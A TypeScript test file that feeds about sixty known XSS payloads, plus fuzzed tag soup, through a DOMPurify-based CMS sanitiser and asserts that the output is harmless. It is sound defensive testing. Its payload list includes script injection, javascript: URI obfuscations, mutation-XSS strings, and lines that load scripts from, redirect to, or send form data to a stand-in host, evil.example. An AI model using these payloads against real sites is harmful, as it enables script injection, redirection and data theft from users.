// @vitest-environment jsdom
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { sanitiseHtml } from '../../../src/ui/components/sanitiseHtml';
import { tallyEach } from '../tally';
import { holdsFor } from './holdsFor';

/**
 * CMS HTML through the DOMPurify sanitiser (spec-decisions 22) against known XSS payloads, in the
 * style of OWASP's filter-evasion cheat sheet, and against generated tag soup: once the result is
 * parsed into a document, nothing in it can run script, load a frame, submit a form, redirect the
 * page or leak data through a style.
 */

const PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=javascript:alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<body onload=alert(1)>',
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="jav&#97;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(2)">x</a>',
  '<a href="https://example.com" ping="https://evil.example/track">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form action="https://evil.example/steal"><button formaction="javascript:alert(1)">go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus><option>x</option></select>',
  '<textarea onfocus=alert(1) autofocus>x</textarea>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>p{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/leak?c=1)">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p id="x" name="cookie" class="evil">clobber</p>',
  '<img name="getElementById"><form name="location">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<p>unclosed <b>bold <i>italic <a href="javascript:alert(1)">link',
  '<p><p><p><a href="https://example.com"><a href="javascript:alert(1)">nested</a></a>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a href="https://example.com/x" target="_self" rel="opener">keep</a>',
];

const DANGEROUS_ELEMENTS =
  'script, iframe, frame, frameset, object, embed, base, meta, link, form, input, button, ' +
  'select, textarea, style, svg, math, img, video, audio, source, template, noscript, details';
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'];
const BAD_SCHEME = /^(javascript|vbscript|data):/i;

/** Parses `html` into a fresh document, as the page would when <Html> renders it. */
function parsed(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
}

function expectHarmless(html: string): void {
  const root = parsed(html);
  expect(root.querySelectorAll(DANGEROUS_ELEMENTS)).toHaveLength(0);
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name.toLowerCase().startsWith('on'), attribute.name).toBe(false);
      expect(['style', 'id', 'name', 'class', 'ping']).not.toContain(attribute.name.toLowerCase());
      if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
        // Browsers drop whitespace and control characters in a URL before reading its scheme.
        // eslint-disable-next-line no-control-regex
        const url = attribute.value.replace(/[\u0000-\u0020]/g, '');
        expect(url, `${attribute.name}=${attribute.value}`).not.toMatch(BAD_SCHEME);
        expect(url.startsWith('//') || url.startsWith('/\\')).toBe(false);
      }
    }
    if (element.localName === 'a' && element.getAttribute('target') === '_blank') {
      expect(element.getAttribute('rel')).toBe('noopener noreferrer');
    }
  }
}

const tagSoupPiece = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.constantFrom(
    '<p>',
    '</p>',
    '<a href="',
    '">',
    '<b>',
    '</a>',
    '<svg>',
    '<math>',
    '<style>',
    '</style>',
    '<!--',
    '-->',
    '<table>',
    '<mglyph>',
    'javascript:alert(1)',
    ' onerror=alert(1) ',
    '<img src=x',
    '>',
    '&lt;',
    '&#x61;',
    '\u0000',
    '<',
    '"',
    "'",
  ),
  fc.string({ maxLength: 8 }),
);
const tagSoup = fc.array(tagSoupPiece, { maxLength: 12 }).map((pieces) => pieces.join(''));

describe('bad input: CMS HTML through the DOMPurify sanitiser', { timeout: 60_000 }, () => {
  afterEach(() => {
    document.body.innerHTML = '';
  });

  it('leaves nothing that can run, load, submit, redirect or exfiltrate, for every known payload', async () => {
    await tallyEach('bad input', 'CMS HTML: known XSS payloads', PAYLOADS, (payload) => {
      const clean = sanitiseHtml(payload);

      expectHarmless(clean);
      // Parsing the result again gives the same markup: no mutation XSS on the second parse.
      expect(sanitiseHtml(clean)).toBe(clean);
    });
  });

  it('keeps the text and the safe links of a CMS page', () => {
    const clean = sanitiseHtml(
      '<h1 onclick="x()">Rules</h1><p>Over <b>18s</b> only</p>' +
        '<a href="https://example.com/x" target="_self" rel="opener">keep</a>' +
        '<a href="/restaurant" style="color:red">menu</a><a href="javascript:alert(1)">gone</a>',
    );

    expect(clean).toBe(
      '<h2>Rules</h2><p>Over <b>18s</b> only</p>' +
        '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">keep</a>' +
        '<a href="/restaurant">menu</a><a>gone</a>',
    );
  });

  it('leaves generated tag soup harmless and stable', async () => {
    await holdsFor(
      'CMS HTML: generated tag soup',
      tagSoup,
      (html) => {
        const clean = sanitiseHtml(html);

        expectHarmless(clean);
        expect(sanitiseHtml(clean)).toBe(clean);
      },
      { numRuns: 200 },
    );
  });
});
